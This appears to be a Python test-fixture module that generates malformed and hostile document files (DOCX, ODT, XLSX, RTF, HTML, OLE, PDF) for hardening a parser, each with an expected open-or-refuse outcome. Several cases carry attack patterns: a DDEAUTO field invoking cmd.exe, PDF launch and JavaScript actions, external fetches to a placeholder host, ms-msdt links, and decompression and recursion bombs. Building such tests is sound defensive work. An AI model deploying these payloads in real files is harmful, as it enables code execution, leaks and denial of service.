"""Hostile content in sound files, and hostile text, RTF, HTML, PDF and compound files; see `hostile_packages`."""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Iterator

from hostile_packages import MAY, OPEN, PARAGRAPHS, REFUSE, Case, R, W, ods, odt, sheet, word

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEXT = "BÁO CÁO\nTình hình năm 2023\nThu ngân sách đạt 100 tỷ đồng, tăng 5% so với năm 2022.\n"
RTF = r"{\rtf1\ansi BAO CAO 2023\par Thu ngan sach 100 ty dong\par "
PAGE = "<html><body><p>BÁO CÁO năm 2023</p><p>Thu ngân sách đạt 100 tỷ đồng</p>{}</body></html>"


def outside(kind: str, target: str) -> str:
    return f'<Relationship Id="x1" Type="{_REL}/{kind}" Target="{target}" TargetMode="External"/>'


def word_content() -> Iterator[Case]:
    """A10, A16–A20, A26–A33 in Word files."""
    cell = "<w:tbl><w:tr><w:tc>{}<w:p/></w:tc></w:tr></w:tbl>"
    for depth in (60, 80):
        nested = "<w:p/>"
        for _ in range(depth):
            nested = cell.format(nested)
        yield Case("A10", f"tables-{depth}.docx", word(PARAGRAPHS + nested), MAY)
    yield Case(
        "A16", "macros.docm", word(rels=outside("x", "y").replace("x1", "x9"), **{"vbaProject.bin": b"VBA"}), OPEN
    )
    for name, target in {
        "http": "http://192.0.2.1/i.png",
        "unc": "//192.0.2.1/s/i.png",
        "file": "file:///srv/bait/i",
    }.items():
        drawing = f'<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" r:id="x1" {R}/></w:pict></w:r></w:p>'
        yield Case("A17", f"image-{name}.docx", word(PARAGRAPHS + drawing, outside("image", target)), OPEN, "BÁO CÁO")
        for part in ("attachedTemplate", "subDocument", "frame", "mailMergeSource"):
            yield Case("A18", f"{part}-{name}.docx", word(PARAGRAPHS, outside(part, target)), OPEN, "BÁO CÁO")
    for field in (
        "DDEAUTO c:\\\\windows\\\\cmd.exe",
        "INCLUDEPICTURE http://192.0.2.1/x",
        "INCLUDETEXT /srv/bait/secret",
        "IMPORT //192.0.2.1/x",
    ):
        run = f'<w:p><w:fldSimple w:instr="{field}"><w:r><w:t>kết quả cũ</w:t></w:r></w:fldSimple></w:p>'
        yield Case("A19", f"field-{field.split()[0].lower()}.docx", word(PARAGRAPHS + run), OPEN, "kết quả cũ")
    chunk = '<w:altChunk r:id="x1"/>'
    rels = f'<Relationship Id="x1" Type="{_REL}/aFChunk" Target="chunk.html"/>'
    yield Case(
        "A20", "chunk.docx", word(PARAGRAPHS + chunk, rels, **{"chunk.html": "<script>alert(1)</script><p>x</p>"}), OPEN
    )
    notes = "".join(
        f'<w:footnote w:id="{n}"><w:p><w:r><w:t>Ghi chú {n}</w:t></w:r></w:p></w:footnote>' for n in range(1, 20_001)
    )
    marks = "".join(f'<w:r><w:footnoteReference w:id="{n}"/></w:r>' for n in range(1, 20_001))
    yield Case(
        "A26",
        "notes-20000.docx",
        word(f"{PARAGRAPHS}<w:p>{marks}</w:p>", footnotes=f"<w:footnotes {W}>{notes}</w:footnotes>"),
        MAY,
    )
    yield Case(
        "A26",
        "note-of-itself.docx",
        word(
            f'{PARAGRAPHS}<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>',
            footnotes=f'<w:footnotes {W}><w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p></w:footnote></w:footnotes>',
        ),
        MAY,
    )
    row = "<w:tr><w:tc><w:p><w:r><w:t>5</w:t></w:r></w:p></w:tc></w:tr>"
    yield Case("A27", "rows-30000.docx", word(f"{PARAGRAPHS}<w:tbl>{row * 30_000}</w:tbl>"), MAY)
    for name, property_ in {
        "span": '<w:gridSpan w:val="1000000000"/>',
        "span-negative": '<w:gridSpan w:val="-5"/>',
        "before": '<w:gridBefore w:val="2147483647"/>',
        "span-word": '<w:gridSpan w:val="viel"/>',
    }.items():
        wide = (
            f"<w:tbl><w:tr><w:tc><w:tcPr>{property_}</w:tcPr><w:p><w:r><w:t>ô</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
        )
        yield Case("A29", f"{name}.docx", word(PARAGRAPHS + wide), OPEN, "ô")
    styled = PARAGRAPHS.replace("<w:p>", '<w:p><w:pPr><w:pStyle w:val="S1"/></w:pPr>')
    style = '<w:style w:type="paragraph" w:styleId="S{}"><w:basedOn w:val="S{}"/></w:style>'
    yield Case(
        "A30",
        "styles-cyclic.docx",
        word(styled, styles=f"<w:styles {W}>{style.format(1, 2)}{style.format(2, 1)}</w:styles>"),
        OPEN,
        "BÁO CÁO",
    )
    chain = "".join(style.format(n, n + 1) for n in range(1, 20_000))
    yield Case("A30", "styles-chain.docx", word(styled, styles=f"<w:styles {W}>{chain}</w:styles>"), OPEN, "BÁO CÁO")
    listed = PARAGRAPHS.replace(
        "<w:p>", '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    )
    level = '<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="{}"/><w:numFmt w:val="{}"/><w:lvlText w:val="{}"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
    for name, words in {
        "text-bomb": (1, "decimal", "%1" * 300_000),
        "roman": (2147483647, "lowerRoman", "%1."),
        "letters": (2147483647, "upperLetter", "%1)"),
        "negative": (-2147483648, "upperRoman", "%1"),
    }.items():
        yield Case(
            "A31",
            f"numbering-{name}.docx",
            word(listed, numbering=f"<w:numbering {W}>{level.format(*words)}</w:numbering>"),
            OPEN,
            "BÁO CÁO",
        )
    loop = '<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="L"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
    linked = (
        '<w:style w:type="numbering" w:styleId="L"><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
    )
    yield Case(
        "A31",
        "numbering-cyclic.docx",
        word(listed, numbering=f"<w:numbering {W}>{loop}</w:numbering>", styles=f"<w:styles {W}>{linked}</w:styles>"),
        OPEN,
        "BÁO CÁO",
    )
    for kind in ("footnotes", "styles", "header", "officeDocument"):
        yield Case(
            "A32",
            f"self-{kind}.docx",
            word(PARAGRAPHS, f'<Relationship Id="x1" Type="{_REL}/{kind}" Target="document.xml"/>'),
            MAY,
        )
    for name, text in {
        "marks": "a" + "\u0301" * 100_000,
        "bidi": "\u202e\u2066" * 5_000 + "gpj.txt",
        "one-word": "a" * 1_000_000,
    }.items():
        yield Case("A33", f"{name}.docx", word(PARAGRAPHS + f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"), MAY)


def other_packages() -> Iterator[Case]:
    """A10, A17, A28–A30 in OpenDocument and Excel files."""
    table = "<table:table><table:table-row><table:table-cell>{}</table:table-cell></table:table-row></table:table>"
    nested = "<text:p>ô</text:p>"
    for _ in range(60):
        nested = table.format(nested)
    yield Case("A10", "tables-60.odt", odt(nested), MAY)
    for name, target in {"http": "http://192.0.2.1/i", "unc": "//192.0.2.1/s/i", "file": "/srv/bait/i.png"}.items():
        yield Case(
            "A17",
            f"image-{name}.odt",
            odt(f'<text:p>BÁO CÁO<draw:frame><draw:image xlink:href="{target}"/></draw:frame></text:p>'),
            OPEN,
            "BÁO CÁO",
        )
    for name, inner in {
        "columns": '<table:table-row><table:table-cell table:number-columns-repeated="1000000000"><text:p>ô</text:p></table:table-cell></table:table-row>',
        "rows": '<table:table-row table:number-rows-repeated="1000000000"><table:table-cell><text:p>ô</text:p></table:table-cell></table:table-row>',
        "spans": '<table:table-row><table:table-cell table:number-columns-spanned="1000000000" table:number-rows-spanned="1000000000"><text:p>ô</text:p></table:table-cell></table:table-row>',
    }.items():
        yield Case(
            "A29", f"repeated-{name}.odt", odt(f"<text:p>a</text:p><table:table>{inner}</table:table>"), OPEN, "ô"
        )
        yield Case("A29", f"repeated-{name}.ods", ods(inner), MAY)
    yield Case("A29", "blanks.odt", odt('<text:p>a<text:s text:c="2000000000"/>b</text:p>'), OPEN, "a")
    cyclic = '<style:style style:name="A" style:parent-style-name="B"/><style:style style:name="B" style:parent-style-name="A"/>'
    yield Case(
        "A30", "styles-cyclic.odt", odt('<text:p text:style-name="A">BÁO CÁO</text:p>', "", cyclic), OPEN, "BÁO CÁO"
    )
    value = '<c r="{}"><v>5</v></c>'
    yield Case(
        "A28",
        "dimension.xlsx",
        sheet(f'<row r="1">{value.format("A1")}</row>', more='<dimension ref="A1:XFD1048576"/>'),
        OPEN,
        "5",
    )
    yield Case(
        "A28",
        "row-2e9.xlsx",
        sheet(f'<row r="2000000000">{value.format("A2000000000")}</row><row r="1">{value.format("A1")}</row>'),
        MAY,
    )
    yield Case("A28", "column-far.xlsx", sheet(f'<row r="1">{value.format("A1")}{value.format("ZZZZZZ1")}</row>'), MAY)
    merges = '<mergeCells><mergeCell ref="A1:XFD1048576"/><mergeCell ref="A1:B2"/><mergeCell ref="??"/></mergeCells>'
    yield Case(
        "A28",
        "merges.xlsx",
        sheet(f'<row r="1">{value.format("A1")}{value.format("B1")}</row>', more=merges),
        OPEN,
        "5",
    )
    yield Case(
        "A28",
        "string-out-of-range.xlsx",
        sheet('<row r="1"><c r="A1" t="s"><v>999999999</v></c><c r="B1"><v>7</v></c></row>', strings="<sst/>"),
        MAY,
    )
    yield Case(
        "A24",
        "formulas.xlsx",
        sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>=HYPERLINK("http://192.0.2.1")</t></is></c></row>'),
        OPEN,
        "=HYPERLINK",
    )


def texts() -> Iterator[Case]:
    """A12, A13, A21, A22, A29, A34, A35, A40–A42: text, RTF, HTML."""
    for kind in ("docx", "doc", "rtf", "odt", "xlsx", "xls", "ods", "pdf", "html", "txt", "mht", "md"):
        yield Case("A12", f"empty.{kind}", b"", REFUSE)
        yield Case("A12", f"zeros.{kind}", bytes(20_000), REFUSE)
    for wrong in ("doc", "pdf", "odt", "txt"):
        yield Case("A13", f"is-docx.{wrong}", word(), OPEN, "BÁO CÁO")
        yield Case("A13", f"is-html.{wrong}", PAGE.format("").encode(), MAY)
        yield Case("A13", f"is-rtf.{wrong}", (RTF + "}").encode(), OPEN, "BAO CAO")
    yield Case("A12", "cut.rtf", (RTF + r"{\b {\i nua").encode(), MAY)
    yield Case("A12", "cut.html", PAGE.format("<table><tr><td>a").encode()[:-14], MAY)
    for name, more in {
        "refresh": '<meta http-equiv="refresh" content="0;url=http://192.0.2.1/">',
        "base": '<base href="file:///srv/bait/">',
        "script": "<script>document.write('x')</script><iframe src='//192.0.2.1/'></iframe>",
        "css": "<style>@import url(//192.0.2.1/a.css)</style>",
        "svg": "<svg><image href='/srv/bait/i.png'/><script>1</script></svg>",
        "object": "<object data='/srv/bait/o'></object><embed src='//192.0.2.1/'>",
    }.items():
        yield Case("A21", f"{name}.html", PAGE.format(more).encode(), OPEN, "BÁO CÁO")
    yield Case(
        "A22",
        "markup.html",
        PAGE.format("<p>&lt;img src=//192.0.2.1/x&gt;&lt;b&gt;đậm</p>").encode(),
        OPEN,
        "<img src=//192.0.2.1/x><b>đậm",
    )
    yield Case(
        "A23",
        "links.html",
        PAGE.format(
            "".join(
                f"<a href='{one}'>x</a>"
                for one in (
                    "javascript:1",
                    "file:///srv/bait/secret",
                    "ms-msdt:/id",
                    "search-ms:x",
                    "\u202ehttp://192.0.2.1",
                )
            )
        ).encode(),
        OPEN,
    )
    yield Case(
        "A29",
        "spans.html",
        PAGE.format("<table><tr><td colspan=1000000000 rowspan=1000000000>ô</td></tr></table>").encode(),
        OPEN,
        "ô",
    )
    yield Case(
        "A10", "tables-500.html", PAGE.format("<table><tr><td>" * 500 + "x" + "</td></tr></table>" * 500).encode(), MAY
    )
    header = struct.pack(">IIBBBBB", 32767, 32767, 8, 6, 0, 0, 0)
    png = (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + b"IHDR"
        + header
        + struct.pack(">I", zlib.crc32(b"IHDR" + header))
    )
    yield Case(
        "A34",
        "png-bomb.html",
        PAGE.format(f"<img src='data:image/png;base64,{base64.b64encode(png).decode()}'>").encode(),
        OPEN,
        "BÁO CÁO",
    )
    yield Case(
        "A34",
        "pict-huge.rtf",
        (RTF + r"{\pict\pngblip\picw2147483647\pich2147483647 89504e47}}").encode(),
        OPEN,
        "BAO CAO",
    )
    for name, more in {
        "braces": "{" * 400_000 + "x" + "}" * 400_000,
        "bin-2gb": "\\bin2147483647 abc",
        "bin-negative": "\\bin-5 abc",
        "unicode": "\\u99999999? \\u-99999999?",
        "uc": "\\uc2147483647\\u7857 abc",
        "font": "\\f2147483647 a\\fs-5 b",
        "cells": "\\trowd" + "\\cellx1" * 20_000 + "\\intbl" + "a\\cell" * 20_000 + "\\row",
    }.items():
        yield Case("A35", f"{name}.rtf", (RTF + more + "}").encode(), MAY)
    yield Case(
        "A17",
        "include.rtf",
        (RTF + r'{\field{\*\fldinst INCLUDEPICTURE "http://192.0.2.1/x"}{\fldrslt cu}}}').encode(),
        OPEN,
        "cu",
    )
    for name, body in {
        "utf16-bare": TEXT.encode("utf-16-le"),
        "bom-twice": b"\xef\xbb\xbf\xef\xbb\xbf" + TEXT.encode(),
        "cp1258": "BAO CAO nam 2023 thu ngan sach".encode("cp1258"),
        "mixed": TEXT.encode() + "Tổng".encode("utf-16-le"),
        "overlong": TEXT.encode() + b"\xc0\xaf\xe0\x80\x80",
    }.items():
        yield Case("A40", f"{name}.txt", body, MAY)
    yield Case("A41", "nul-esc.txt", (TEXT + "trước\x00\x1bsau").encode(), OPEN, "sau")
    yield Case(
        "A42", "decimals.txt", (TEXT + "Tăng 1.234,56 và 1,234.56 (12,5) 1.234").encode(), OPEN, "1.234,56 và 1,234.56"
    )
    yield Case("A33", "one-word.txt", TEXT.encode() + b"a" * 2_000_000, MAY)


def binaries() -> Iterator[Case]:
    """A36–A39: compound files and PDF."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)

    def ole(shift: int = 9, first: int = 0, difat: int = 0xFFFFFFFE, difats: int = 0, fat: bytes = b"") -> bytes:
        fields = struct.pack(
            "<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, shift, 6, 0, 1, first, 0, 4096, 0xFFFFFFFE, 0, difat, difats
        )
        body = (head + fields).ljust(512, b"\xff")
        return body[:76] + struct.pack("<I", 0) + body[80:] + fat.ljust(512, b"\xff") + bytes(4096)

    loop = struct.pack("<4I", 0xFFFFFFFD, 2, 1, 1)
    for kind in ("doc", "xls"):
        yield Case("A36", f"shift-31.{kind}", ole(shift=31), REFUSE)
        yield Case("A36", f"fat-loop.{kind}", ole(first=1, fat=loop), REFUSE)
        yield Case("A36", f"difat-loop.{kind}", ole(difat=0, difats=0xFFFFFFFF), REFUSE)
        yield Case("A36", f"cut.{kind}", ole()[:300], REFUSE)
    catalog = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R{}>>endobj\n2 0 obj<</Type/Pages/Count {}/Kids[{}]>>endobj\n{}\ntrailer<</Root 1 0 R>>\n%%EOF"

    def pdf(extra: str = "", count: str = "1", kids: str = "3 0 R", more: bytes = b"") -> bytes:
        made = catalog
        for value in (extra, count, kids):
            made = made.replace(b"{}", value.encode(), 1)
        return made.replace(b"{}", more, 1)

    page = b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>endobj\n"
    flate = zlib.compress(bytes(100 << 20), 9)
    stream = b"4 0 obj<</Length %d/Filter/FlateDecode>>stream\n" % len(flate) + flate + b"\nendstream endobj"
    yield Case("A37", "flate.pdf", pdf(more=page + stream), REFUSE)
    yield Case("A37", "kids-loop.pdf", pdf(kids="2 0 R 2 0 R"), REFUSE)
    yield Case("A37", "count.pdf", pdf(count="2147483647", more=page), REFUSE)
    yield Case("A37", "arrays.pdf", pdf(more=page + b"4 0 obj" + b"[" * 100_000 + b"]" * 100_000 + b"endobj"), REFUSE)
    yield Case(
        "A38",
        "script.pdf",
        pdf("/OpenAction<</S/JavaScript/JS(app.launchURL('http://192.0.2.1'))>>", more=page),
        REFUSE,
    )
    yield Case("A38", "launch.pdf", pdf("/OpenAction<</S/Launch/F(//192.0.2.1/x.exe)>>", more=page), REFUSE)
    yield Case("A39", "no-text.pdf", pdf(more=page), REFUSE)
    yield Case("A12", "half.pdf", pdf(more=page)[:60], REFUSE)


def all_of_them() -> Iterator[Case]:
    """Every case of this module."""
    for make in (word_content, other_packages, texts, binaries):
        yield from make()
